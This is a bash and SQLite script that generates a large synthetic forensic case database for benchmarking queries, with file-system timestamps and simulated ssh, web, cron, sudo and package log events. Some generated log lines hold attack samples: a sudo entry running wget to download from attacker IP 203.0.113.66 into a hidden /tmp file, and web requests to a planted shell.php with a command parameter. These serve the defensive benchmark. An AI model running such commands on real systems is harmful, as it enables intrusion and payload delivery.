#!/usr/bin/env bash
# Generate a synthetic case database for the query benchmark:
#   bench/gen_case.sh OUT.db [EVENTS] [ASSETS]      (defaults: 10000000 events, 20 assets)
# About 80% file-system events (M/A/C/B times of files in realistic trees; ctime
# and crtime sometimes unset) and 20% log events (ssh logins and failures from a
# skewed pool of IPv4/IPv6 addresses, web requests, cron, sudo, package changes),
# over 90 days, with an intrusion burst. Everything happens inside SQLite (one
# transaction, prepared by the shell, secondary indexes dropped for the load and
# rebuilt after), so the generator is as fast as SQLite can insert.
# Needs the custody-casedb binary (for a real case database) and the sqlite3 shell.
set -euo pipefail
out=${1:?usage: gen_case.sh OUT.db [EVENTS] [ASSETS]}
events=${2:-10000000}
assets=${3:-20}
bin=${CUSTODY_BIN:-$(cd "$(dirname "$0")/.." && pwd)/build/bin}
[ -e "$out" ] && { echo "gen_case.sh: '$out' exists" >&2; exit 2; }

"$bin/custody-casedb" init "$out" --case-number BENCH-1 --title "synthetic benchmark case" >/dev/null
for i in $(seq -w 1 "$assets"); do
  "$bin/custody-casedb" asset add "host$i" --case-db "$out" >/dev/null
  "$bin/custody-casedb" evidence add --asset "host$i" --evidence sda --case-db "$out" >/dev/null
done

fs_events=$((events * 8 / 10))
files=$((fs_events * 10 / 35)) # 3.5 set times per file on average
log_events=$((events - fs_events))
start=$(date +%s.%N)

sqlite3 -bail "$out" <<SQL
PRAGMA synchronous = OFF;
PRAGMA cache_size = -1000000;
PRAGMA temp_store = MEMORY;
CREATE TEMP TABLE saved_index AS
  SELECT name, sql FROM sqlite_master
  WHERE type = 'index' AND tbl_name IN ('events', 'files') AND sql IS NOT NULL;
.headers off
.mode list
.output /tmp/gen_case_drop.$$.sql
SELECT 'DROP INDEX ' || name || ';' FROM saved_index;
.output /tmp/gen_case_create.$$.sql
SELECT sql || ';' FROM saved_index;
.output stdout
.read /tmp/gen_case_drop.$$.sql
BEGIN;

-- Vocabulary: directories, name stems, extensions, users, commands, web paths.
CREATE TEMP TABLE dirs(i INTEGER PRIMARY KEY, d TEXT);
INSERT INTO dirs(d) VALUES
 ('/usr/bin/'),('/usr/sbin/'),('/usr/lib/x86_64-linux-gnu/'),('/usr/lib/python3/dist-packages/requests/'),
 ('/usr/lib/python3/dist-packages/urllib3/'),('/usr/share/doc/openssh-server/'),('/usr/share/man/man1/'),
 ('/usr/share/locale/de/LC_MESSAGES/'),('/usr/share/zoneinfo/Europe/'),('/usr/include/linux/'),
 ('/etc/'),('/etc/ssh/'),('/etc/nginx/sites-available/'),('/etc/systemd/system/'),('/etc/cron.d/'),
 ('/var/log/'),('/var/log/nginx/'),('/var/lib/dpkg/info/'),('/var/cache/apt/archives/'),
 ('/var/www/html/'),('/var/www/html/wp-content/plugins/'),('/var/www/html/wp-content/uploads/2026/01/'),
 ('/home/alice/'),('/home/alice/.ssh/'),('/home/bob/projects/api/src/'),('/home/bob/.cache/pip/'),
 ('/root/'),('/root/.ssh/'),('/tmp/'),('/tmp/.X11-unix/'),('/dev/shm/'),('/opt/app/lib/'),
 ('/opt/app/node_modules/lodash/'),('/opt/app/node_modules/express/lib/'),('/srv/backup/'),
 ('/lib/modules/6.1.0-18-amd64/kernel/drivers/net/'),('/boot/grub/'),('/snap/core22/1122/usr/lib/');
CREATE TEMP TABLE stems(i INTEGER PRIMARY KEY, s TEXT);
INSERT INTO stems(s) VALUES ('index'),('config'),('README'),('libssl'),('main'),('utils'),('server'),
 ('client'),('auth'),('session'),('access'),('error'),('passwd'),('shadow'),('authorized_keys'),
 ('known_hosts'),('bashrc'),('profile'),('backup'),('dump'),('update'),('install'),('cache'),
 ('module'),('plugin'),('upload'),('image'),('report'),('data'),('notes'),('kworker'),('.x');
CREATE TEMP TABLE exts(i INTEGER PRIMARY KEY, e TEXT);
INSERT INTO exts(e) VALUES ('.so'),('.py'),('.js'),('.php'),('.conf'),('.log'),('.gz'),(''),('.txt'),
 ('.json'),('.sh'),('.html'),('.pyc'),('.deb'),('.png'),('.ko');
CREATE TEMP TABLE users(i INTEGER PRIMARY KEY, u TEXT);
INSERT INTO users(u) VALUES ('root'),('alice'),('bob'),('www-data'),('deploy'),('admin'),('oracle'),
 ('test'),('ubuntu'),('postgres');
CREATE TEMP TABLE webpaths(i INTEGER PRIMARY KEY, p TEXT);
INSERT INTO webpaths(p) VALUES ('/'),('/index.php'),('/wp-login.php'),('/wp-admin/admin-ajax.php'),
 ('/api/v1/users'),('/api/v1/orders?id=42'),('/static/app.js'),('/favicon.ico'),('/.env'),
 ('/cgi-bin/luci'),('/wp-content/uploads/2026/01/shell.php?cmd=id'),('/robots.txt'),
 ('/login?next=%2Fadmin'),('/images/logo.png'),('/xmlrpc.php'),('/server-status');

-- Files, spread over the assets; times over 90 days from 2026-01-01, modified
-- times clustered at install/update days, access times recent.
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < $files)
INSERT INTO files (id, evidence_id, partition_id, path, inode, name_type, meta_type, mode, uid, gid,
                   size, flags, atime, mtime, ctime, crtime)
SELECT i, 1 + i % $assets, 1 + i % $assets,
       CAST((SELECT d FROM dirs WHERE dirs.i = 1 + (n.i * 7919) % (SELECT count(*) FROM dirs)) ||
            (SELECT s FROM stems WHERE stems.i = 1 + (n.i * 104729) % (SELECT count(*) FROM stems)) ||
            CASE WHEN i % 3 = 0 THEN '' ELSE '-' || (i % 997) END ||
            (SELECT e FROM exts WHERE exts.i = 1 + (n.i * 31) % (SELECT count(*) FROM exts)) AS BLOB),
       CAST(i / $assets + 11 AS TEXT),
       CASE WHEN i % 10 = 0 THEN 3 ELSE 5 END, CASE WHEN i % 10 = 0 THEN 2 ELSE 1 END,
       CASE WHEN i % 10 = 0 THEN 493 WHEN i % 7 = 0 THEN 493 ELSE 420 END,
       CASE WHEN i % 5 = 0 THEN 1000 ELSE 0 END, CASE WHEN i % 5 = 0 THEN 1000 ELSE 0 END,
       (abs(random()) % 65536) * (1 + i % 17),
       CASE WHEN i % 50 = 0 THEN 1 ELSE 0 END,
       1767225600000000000 + 7776000000000000 - (abs(random()) % 2592000000000000),
       1767225600000000000 + (i % 30) * 259200000000000 + abs(random()) % 3600000000000,
       CASE WHEN i % 4 = 0 THEN NULL
            ELSE 1767225600000000000 + (i % 30) * 259200000000000 + abs(random()) % 86400000000000 END,
       CASE WHEN i % 4 = 1 THEN NULL
            ELSE 1767225600000000000 + (i % 30) * 259200000000000 END
FROM n;

-- A file's set times are its file-system events (schema v2: no event rows); one
-- partition per disk records their count, as custody-timeline build does.
INSERT INTO partitions (id, evidence_id, idx, offset, prefix, fs_type, status, files, events)
SELECT evidence_id, evidence_id, 0, 1048576, '', 'ext4', 'ok', count(*),
       count(atime) + count(mtime) + count(ctime) + count(crtime)
FROM files GROUP BY evidence_id;

-- Log events. IP addresses from a skewed pool (a few scanners send most traffic),
-- one in eight IPv6; an intrusion burst on day 61 from 203.0.113.66.
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < $log_events),
r AS (SELECT i, abs(random()) AS a, abs(random()) AS b FROM n),
v AS (SELECT i, a, b, 1 + a % $assets AS ev,
             CASE WHEN i % 211 = 0 THEN 1772496000000000000 + b % 7200000000000
                  ELSE 1767225600000000000 + a % 7776000000000000 END AS ts,
             CASE WHEN i % 211 = 0 THEN '203.0.113.66'
                  WHEN b % 8 = 0 THEN printf('2001:db8:%x::%x', (b / 8) % 64, (a / 7) % 4000)
                  ELSE printf('%d.%d.%d.%d', 45 + ((a / 13) % 5000) * ((a / 13) % 5000) / 5000 % 180,
                              (b / 3) % 256, (a / 5) % 256, 1 + (b / 11) % 254) END AS ip,
             (SELECT u FROM users WHERE users.i = 1 + (b / 17) % 10) AS usr,
             i % 20 AS t
      FROM r)
INSERT INTO events (evidence_id, ts, kind, source, user, ip, port, program, pid, message, path,
                    location, data)
SELECT ev, ts,
       CASE WHEN t < 5 THEN 'ssh-login-failure' WHEN t < 6 THEN 'ssh-login-success'
            WHEN t < 13 THEN 'web-request' WHEN t < 16 THEN 'cron-command'
            WHEN t < 18 THEN 'sudo-command' WHEN t < 19 THEN 'package-installed' ELSE 'logout' END,
       CASE WHEN t < 6 OR t >= 16 AND t < 18 OR t = 19 THEN 'auth' WHEN t < 13 THEN 'web'
            WHEN t < 16 THEN 'syslog' ELSE 'dpkg' END,
       CASE WHEN t < 6 OR (t >= 13 AND t < 18) OR t = 19 THEN usr END,
       CASE WHEN t < 13 OR t = 19 THEN ip END,
       CASE WHEN t < 6 THEN 1024 + b % 60000 END,
       CASE WHEN t < 6 OR t = 19 THEN 'sshd' WHEN t < 13 THEN 'nginx' WHEN t < 16 THEN 'CRON'
            WHEN t < 18 THEN 'sudo' ELSE 'dpkg' END,
       CASE WHEN t < 6 OR t >= 13 THEN 300 + a % 60000 END,
       CASE WHEN t < 5 THEN printf('Failed password for %s%s from %s port %d ssh2',
                                   CASE WHEN b % 3 = 0 THEN 'invalid user ' ELSE '' END, usr, ip,
                                   1024 + b % 60000)
            WHEN t < 6 THEN printf('Accepted %s for %s from %s port %d ssh2',
                                   CASE WHEN b % 2 = 0 THEN 'publickey' ELSE 'password' END, usr,
                                   ip, 1024 + b % 60000)
            WHEN t < 13 THEN printf('%s - - "GET %s HTTP/1.1" %d %d "-" "%s"', ip,
                                    (SELECT p FROM webpaths WHERE webpaths.i = 1 + (a / 3) % (SELECT count(*) FROM webpaths)),
                                    CASE WHEN b % 9 = 0 THEN 404 ELSE 200 END, b % 40000,
                                    CASE WHEN b % 4 = 0 THEN 'curl/7.88.1'
                                         ELSE 'Mozilla/5.0 (X11; Linux x86_64)' END)
            WHEN t < 16 THEN printf('(%s) CMD (/usr/lib/php/sessionclean 2>/dev/null)', usr)
            WHEN t < 18 THEN printf('%s : TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=%s',
                                    usr, b % 4, usr,
                                    CASE WHEN b % 5 = 0 THEN '/usr/bin/wget http://203.0.113.66/x -O /tmp/.x'
                                         ELSE '/usr/bin/systemctl restart nginx' END)
            WHEN t < 19 THEN printf('status installed libssl3:amd64 3.0.%d-1~deb12u1', b % 20)
            ELSE printf('Disconnected from user %s %s port %d', usr, ip, 1024 + b % 60000) END,
       CASE WHEN t >= 6 AND t < 13 THEN CAST((SELECT p FROM webpaths WHERE webpaths.i = 1 + (a / 3) % (SELECT count(*) FROM webpaths)) AS BLOB) END,
       CAST(i AS TEXT),
       CASE WHEN t >= 6 AND t < 13 THEN printf('{"method":"GET","status":%d}', CASE WHEN b % 9 = 0 THEN 404 ELSE 200 END) END
FROM v
ORDER BY ev, 4, ts; -- per disk and log source, in time order (as the log parsers load them)
COMMIT;
.read /tmp/gen_case_create.$$.sql
SQL
rm -f /tmp/gen_case_drop.$$.sql /tmp/gen_case_create.$$.sql
end=$(date +%s.%N)
n=$(sqlite3 "$out" 'SELECT (SELECT count(*) FROM events) + (SELECT sum(events) FROM partitions)')
awk -v n="$n" -v f="$files" -v a="$assets" -v s="$start" -v e="$end" 'BEGIN {
  printf "gen_case: %d events (%d files) over %d assets in %.1f s (%.0f events/s)\n", n, f, a, e - s, n / (e - s) }'
